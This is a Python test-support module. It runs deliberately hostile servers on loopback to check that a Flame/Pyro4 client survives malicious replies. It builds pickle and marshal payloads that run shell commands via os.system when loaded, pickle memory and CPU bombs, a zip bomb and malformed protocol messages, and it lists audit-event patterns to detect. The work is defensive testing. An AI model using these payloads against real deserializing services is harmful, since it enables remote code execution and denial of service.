"""Servers that mean harm, or are broken: what a client may meet at the other end of a Flame connection.

``payloads`` and ``bombs`` are data that do something when they are loaded.  ``modes`` maps a name to what an
``EvilServer`` does: most shake hands properly and answer the first call with the harm; those named ``handshake-…`` do
it at once.  Run as a program, this is a client that is watched: see ``watch``.
"""

from __future__ import annotations

import contextlib
import json
import marshal
import os
import pickle
import random
import resource
import socket
import struct
import sys
import threading
import time
import zlib
from collections.abc import Callable, Iterator
from typing import Any

HEADER = struct.Struct("!4sHHHHiHHHH")
CONNECT, CONNECTOK, CONNECTFAIL, INVOKE, RESULT = 1, 2, 3, 4, 5
EXCEPTION, COMPRESSED, STREAM = 1, 2, 32
PICKLE, MARSHAL, JSON, DILL, MSGPACK, CLOUDPICKLE = 4, 3, 2, 5, 6, 7
HELLO = pickle.dumps("hello", 4)


class Shell:
    """Pickles into a call of ``os.system``; ``command`` is run by whoever unpickles it."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> Any:
        return os.system, (self.command,)


def message(
    kind: int,
    data: bytes,
    seq: int,
    *,
    serializer: int = PICKLE,
    flags: int = 0,
    chunks: bytes = b"",
    size: int | None = None,
    version: int = 48,
) -> bytes:
    """A message as Pyro4 writes it, with a right checksum; ``size`` is the claimed length of ``data``."""
    size = len(data) if size is None else size
    total = kind + version + size + len(chunks) + serializer + flags + seq + 0x34E9
    head = HEADER.pack(b"PYRO", version, kind, flags, seq, size, serializer, len(chunks), 0, total & 0xFFFF)
    return head + chunks + data


def read_message(connection: socket.socket) -> tuple[int, bytes]:
    """The sequence number and the data of the next message."""
    head = _exactly(connection, HEADER.size)
    _, _, _, _, seq, size, _, chunks, _, _ = HEADER.unpack(head)
    return seq, _exactly(connection, chunks + size)[chunks:]


def _exactly(connection: socket.socket, size: int) -> bytes:
    data = b""
    while len(data) < size:
        piece = connection.recv(size - len(data))
        if not piece:
            raise ConnectionError("the client closed")
        data += piece
    return data


def payloads(command: str) -> dict[str, tuple[int, bytes]]:
    """Name -> (serializer, data that runs ``command``, or would, when it is loaded by that serializer)."""
    harm = Shell(command)
    by_pickle = {f"pickle{protocol}": (PICKLE, pickle.dumps(harm, protocol)) for protocol in range(6)}
    code = compile(f"__import__('os').system({command!r})", "evil", "exec")
    return {
        **by_pickle,
        "dill": (DILL, pickle.dumps(harm, 2)),
        "cloudpickle": (CLOUDPICKLE, pickle.dumps(harm, 4)),
        "marshal": (MARSHAL, marshal.dumps(code)),
        "json": (JSON, json.dumps({"__class__": "builtins.SystemExit", "attributes": {}, "args": [3]}).encode()),
        "msgpack": (MSGPACK, b"\x81\xa9__class__\xaabuiltins.x"),
        "unknown": (99, b"?"),
    }


def bombs() -> dict[str, bytes]:
    """Pickles that are small and cost much, or break out of a reader that only checks names."""
    shared = b"\x80\x02(]q\x00(" + b"K\x00" * 10 + b"e"
    for level in range(1, 11):  # 10^11 leaves in 300 bytes
        shared += b"]q" + bytes([level]) + b"(" + (b"h" + bytes([level - 1])) * 10 + b"e"
    hashed = b"\x80\x02}N"
    for level in range(30):  # a pair of the pair below, twice: hashing it takes 2^30 steps
        hashed += b"q" + bytes([level]) + b"h" + bytes([level]) + b"\x86"
    # Hashes of integers are known, and these are all 0. A dict of them would take us minutes to make, too.
    collisions = [b"\x8a\x0b" + (index * (2**61 - 1)).to_bytes(11, "little") for index in range(100_000)]
    text = b"X\x00\x10\x00\x00" + b"a" * 4096
    # 80 MB out of 500 KB, each copy made by a call that picklers do write.
    copies = b"c_codecs\nencode\nh\x00X\x06\x00\x00\x00latin1\x86R" * 20_000
    return {
        "memo": b"\x80\x02Nr\xff\xff\xff\x1f.",
        "memo-long": b"\x80\x02" + b"".join(b"Nr" + struct.pack("<I", i * 2**20) for i in range(1000)) + b".",
        "hash": hashed + b"Ns.",
        "hash-codec": b"\x80\x02c_codecs\nencode\nX\x00\x00\x00\x00" + hashed[3:] + b"\x86R.",
        "hash-set": b"\x80\x04\x8f(" + hashed[3:] + b"\x90.",
        "sets": b"\x80\x04(" + b"\x8f" * 900_000 + b"t.",
        "names": b"\x80\x02(cbuiltins\ngetattr\nq\x00ca\nb\nq\x01X\xfa\x00\x00\x00"
        + b"n" * 250
        + b"q\x02"
        + b"h\x00h\x01h\x02\x86R" * 200_000
        + b"t.",
        "collisions": b"\x80\x04}(" + b"N".join(collisions) + b"Nu.",
        "collisions-set": b"\x80\x02c__builtin__\nset\n](" + b"".join(collisions) + b"e\x85R.",
        "nesting": b"\x80\x02N" + b"\x85" * 100_000 + b".",
        "nesting-lists": b"\x80\x02" + b"]" * 200_000 + b"a" * 199_999 + b".",
        "shared": shared + b"t.",
        "cycle": b"\x80\x02]q\x00h\x00a.",
        "copies": b"\x80\x02(" + text + b"q\x00" + copies + b"t.",
        "binbytes8": b"\x80\x04\x8e" + struct.pack("<Q", 10**12) + b"x.",
        "binunicode8": b"\x80\x04\x8d" + struct.pack("<Q", 2**64 - 1) + b"x.",
        "bytearray8": b"\x80\x05\x96" + struct.pack("<Q", 10**12) + b"x.",
        "frame": b"\x80\x04\x95" + struct.pack("<Q", 10**15) + b"N.",
        "integer": b"\x80\x02\x8b" + struct.pack("<i", 10**6) + b"\x7f" * 10**6 + b".",
        "steps": b"\x80\x02(" + b"N" * 3_000_000 + b"t.",
        "build": b"\x80\x02cPyro4.utils.flame\nFlameBuiltin\n}X\x08\x00\x00\x00__call__cbuiltins\nValueError\nsb.",
        "build-call": b"\x80\x02cPyro4.utils.flame\nFlameBuiltin\n)\x81N}X\x08\x00\x00\x00__call__Ns\x86b.",
        "persistent": b"\x80\x02Pevil\n.",
        "extension": b"\x80\x02\x82\x01.",
        "inst": b"\x80\x02(ios\nsystem\n.",
        "buffer": b"\x80\x05\x97.",
        "empty": b"",
        "unended": b"\x80\x04K\x01",
        "trailing": pickle.dumps(1, 4) + b"more",
    }


Answer = Callable[["Server", socket.socket, int], None]


def _send(data: Callable[[int], bytes]) -> Answer:
    return lambda server, connection, seq: connection.sendall(data(seq))


def modes(command: str) -> dict[str, Answer]:
    """Name -> what the server does with the first call, or, in ``handshake-…``, with the CONNECT message."""
    made: dict[str, Answer] = {}
    for name, (serializer, data) in payloads(command).items():
        for title, kind, flags in (
            ("handshake-ok", CONNECTOK, 0),
            ("handshake-fail", CONNECTFAIL, 0),
            ("result", RESULT, 0),
            ("exception", RESULT, EXCEPTION),
        ):
            made[f"{title}-{name}"] = _send(
                lambda seq, k=kind, d=data, s=serializer, f=flags: message(k, d, seq, serializer=s, flags=f)
            )
    for name, data in bombs().items():
        made[f"bomb-{name}"] = _send(lambda seq, d=data: message(RESULT, d, seq))
        made[f"exception-bomb-{name}"] = _send(lambda seq, d=data: message(RESULT, d, seq, flags=EXCEPTION))
        made[f"handshake-bomb-{name}"] = _send(lambda seq, d=data: message(CONNECTOK, d, seq))
    zipped = zlib.compress(bytes(512 * 2**20), 9)
    one = pickle.dumps(1, 4)
    proxy = b"\x80\x02cPyro4.core\nProxy\n)\x81(X\x16\x00\x00\x00PYRO:x@evil.example:99tb."
    bad_chunks = (
        b"HM",
        b"HMAC\xff\xffx",
        b"\xff\xfe\xfd\xfc\x00\x01x",
        b"CORR\x00\x01aCORR\x00\x01b",
        b"CORR\x00\x04evil",
    )
    made |= {
        "zip": _send(lambda seq: message(RESULT, zipped, seq, flags=COMPRESSED)),
        "zip-handshake-never": _send(lambda seq: message(RESULT, b"no zlib", seq, flags=COMPRESSED)),
        "zip-cut": _send(lambda seq: message(RESULT, zlib.compress(one)[:-3], seq, flags=COMPRESSED)),
        "zip-trailing": _send(lambda seq: message(RESULT, zlib.compress(one) + b"x", seq, flags=COMPRESSED)),
        "handshake-zip": _send(lambda seq: message(CONNECTOK, zipped, seq, flags=COMPRESSED)),
        "header-2gb": _send(lambda seq: message(RESULT, b"x" * 1000, seq, size=2**31 - 1)),
        "header-60mb": _send(lambda seq: message(RESULT, b"x" * 1000, seq, size=60 * 2**20)),
        "header-negative": _send(lambda seq: message(RESULT, one, seq, size=-1)),
        "handshake-header-2gb": _send(lambda seq: message(CONNECTOK, b"x" * 1000, seq, size=2**31 - 1)),
        "silence": lambda server, connection, seq: server.wait(),
        "half": _send(lambda seq: message(RESULT, one, seq)[:-3]),
        "half-header": _send(lambda seq: message(RESULT, one, seq)[:9]),
        "drip": lambda server, connection, seq: server.drip(connection, message(RESULT, one, seq)),
        "handshake-silence": lambda server, connection, seq: server.wait(),
        "handshake-half": _send(lambda seq: message(CONNECTOK, HELLO, seq)[:-3]),
        "handshake-drip": lambda server, connection, seq: server.drip(connection, message(CONNECTOK, HELLO, seq)),
        "wrong-seq": _send(lambda seq: message(RESULT, one, seq ^ 1)),
        "handshake-wrong-seq": _send(lambda seq: message(CONNECTOK, HELLO, seq ^ 1)),
        "wrong-type": _send(lambda seq: message(CONNECTOK, one, seq)),
        "handshake-wrong-type": _send(lambda seq: message(RESULT, HELLO, seq)),
        "wrong-checksum": _send(lambda seq: message(RESULT, one, seq)[:22] + b"\0\0" + one),
        "garbage": _send(lambda seq: b"\x00\xffgarbage" * 10),
        "handshake-garbage": _send(lambda seq: b"\x00\xffgarbage" * 10),
        "stream": _send(lambda seq: message(RESULT, one, seq, flags=STREAM)),
        "unknown-flags": _send(lambda seq: message(RESULT, one, seq, flags=0x4000)),
        "proxy": _send(lambda seq: message(RESULT, proxy, seq)),
        "no-exception": _send(lambda seq: message(RESULT, one, seq, flags=EXCEPTION)),
        "system-exit": _send(lambda seq: message(RESULT, pickle.dumps(SystemExit(3), 4), seq, flags=EXCEPTION)),
        "interrupt": _send(lambda seq: message(RESULT, pickle.dumps(KeyboardInterrupt(), 4), seq, flags=EXCEPTION)),
        "reflection": lambda server, connection, seq: connection.sendall(message(RESULT, server.last_request, seq)),
        "unsigned-hmac": _send(lambda seq: message(RESULT, one, seq, chunks=b"HMAC\x00\x14" + bytes(20))),
    }
    for number, chunks in enumerate(bad_chunks):
        made[f"annotations-{number}"] = _send(lambda seq, c=chunks: message(RESULT, one, seq, chunks=c))
        made[f"handshake-annotations-{number}"] = _send(lambda seq, c=chunks: message(CONNECTOK, HELLO, seq, chunks=c))
    return made


class Server:
    """Listens on loopback, each client on a thread of its own; for ``contextlib.closing``. Subclasses ``serve`` one."""

    def __init__(self) -> None:
        self.last_request = b""
        self.over = threading.Event()
        self._listener = socket.create_server(("127.0.0.1", 0))
        self._clients: set[socket.socket] = set()
        self._threads: list[threading.Thread] = []
        self.location = f"127.0.0.1:{self._listener.getsockname()[1]}"
        self._thread = threading.Thread(target=self._accept, name="evil")
        self._thread.start()

    def serve(self, connection: socket.socket) -> None:
        """Do it to one client; an OSError is the end of it."""
        raise NotImplementedError

    def close(self) -> None:
        """End the threads and every connection."""
        self.over.set()
        with contextlib.suppress(OSError):
            self._listener.shutdown(socket.SHUT_RDWR)  # wakes accept()
        self._thread.join()
        for connection in list(self._clients):
            with contextlib.suppress(OSError):
                connection.shutdown(socket.SHUT_RDWR)
        for thread in self._threads:
            thread.join()
        self._listener.close()

    def wait(self) -> None:
        """Say nothing until the client has had enough and the test is over."""
        self.over.wait()

    def drip(self, connection: socket.socket, data: bytes) -> None:
        """A byte every 50 ms: each resets a timeout that is counted from the last byte."""
        for index in range(len(data)):
            connection.sendall(data[index : index + 1])
            if self.over.wait(0.05):
                return

    def _accept(self) -> None:
        while not self.over.is_set():
            try:
                connection, _ = self._listener.accept()
            except OSError:
                return
            self._clients.add(connection)
            self._threads = [thread for thread in self._threads if thread.is_alive()]
            self._threads.append(threading.Thread(target=self._one, args=(connection,), name="evil"))
            self._threads[-1].start()

    def _one(self, connection: socket.socket) -> None:
        with connection, contextlib.suppress(OSError):
            self.serve(connection)
        self._clients.discard(connection)


class EvilServer(Server):
    """Does ``answer`` to the first call of each client, or to its CONNECT message."""

    def __init__(self, answer: Answer, *, at_handshake: bool = False, raw: bool = False) -> None:
        self._answer = answer
        self._at_handshake = at_handshake
        self._raw = raw  # the answer reads what the client sends by itself
        super().__init__()

    def serve(self, connection: socket.socket) -> None:
        seq = 0
        if not self._raw:
            seq, self.last_request = read_message(connection)
        if not self._raw and not self._at_handshake:
            connection.sendall(message(CONNECTOK, HELLO, seq))
            seq, self.last_request = read_message(connection)
        self._answer(self, connection, seq)


# --- the watched client

# What harm needs: any audit event that begins so, during a connection and a call, is a failure.
_WATCHED = (
    "import",
    "exec",
    "compile",
    "open",
    "os.",
    "subprocess.",
    "pickle.",
    "marshal.",
    "ctypes.",
    "code.__new__",
    "object.__setattr__",
    "object.__delattr__",
    "function.__new__",
    "shutil.",
    "socket.connect",
)


def watch() -> None:
    """Call each server on stdin (lines of ``name location``), and print what came of it, a JSON line each.

    ``events`` are the audit events between the moment a connection is asked for and the end of the call, but for the
    one connect; ``outcome`` is the class of the error, or ``value``; ``grown`` the growth of the process in bytes.
    """
    from flame_kernel.connect import connection as transport
    from flame_kernel.connect.target import Location, Target, Timeouts
    from flame_kernel.errors import FlameError

    events: list[str] = []
    watching = False

    def hook(event: str, arguments: tuple[Any, ...]) -> None:
        if watching and event.startswith(_WATCHED):
            events.append(f"{event} {arguments!r}"[:200])

    sys.addaudithook(hook)
    for line in sys.stdin:
        name, location = line.split()
        target = Target(Location.parse(location), timeouts=Timeouts(connect=1.0, call=1.0))
        before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        started = time.monotonic()
        events.clear()
        connection = None
        value: Any = None
        watching = True
        try:
            connection = transport.Connection(target)
            value = connection.call("evaluate", "1")
            repr(value)
            outcome = "value"
        except FlameError as error:
            outcome = type(error).__name__
            value = str(error)
        except BaseException as error:  # whatever else comes out is a fault, and is to be told
            outcome = "FAULT " + repr(error)[:200]
        finally:
            watching = False
            if connection is not None:
                connection.close()
        seconds = time.monotonic() - started
        grown = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) * 1024
        shown = repr(value)[:300]
        connects = [event for event in events if event.startswith("socket.connect")]
        others = [event for event in events if not event.startswith("socket.connect")]
        print(
            json.dumps(
                {
                    "name": name,
                    "outcome": outcome,
                    "shown": shown,
                    "seconds": seconds,
                    "grown": grown,
                    "events": others + connects[1:],
                }
            ),
            flush=True,
        )


def mutants(seeds: list[bytes], count: int, seed: int) -> Iterator[bytes]:
    """``count`` damaged copies of ``seeds``, the same for the same ``seed``: flips, cuts, repeats, splices."""
    chance = random.Random(seed)
    for _ in range(count):
        data = bytearray(chance.choice(seeds))
        for _ in range(chance.randint(1, 4)):
            at = chance.randrange(len(data) + 1)
            to = min(len(data), at + chance.randint(1, 12))
            change = chance.randrange(6)
            if change == 0 and at < len(data):
                data[at] ^= 1 << chance.randrange(8)
            elif change == 1 and at < len(data):
                data[at] = chance.randrange(256)
            elif change == 2:
                del data[at:to]
            elif change == 3:
                data[at:at] = data[at:to]
            elif change == 4:
                other = chance.choice(seeds)
                cut = chance.randrange(len(other))
                data[at:at] = other[cut : cut + chance.randint(1, 20)]
            else:
                data[at:at] = chance.choice(b"cR\x93\x81b}](t.es\x90\x91hqrj\x94\x85").to_bytes(1, "big")
        yield bytes(data)


if __name__ == "__main__":
    watch()
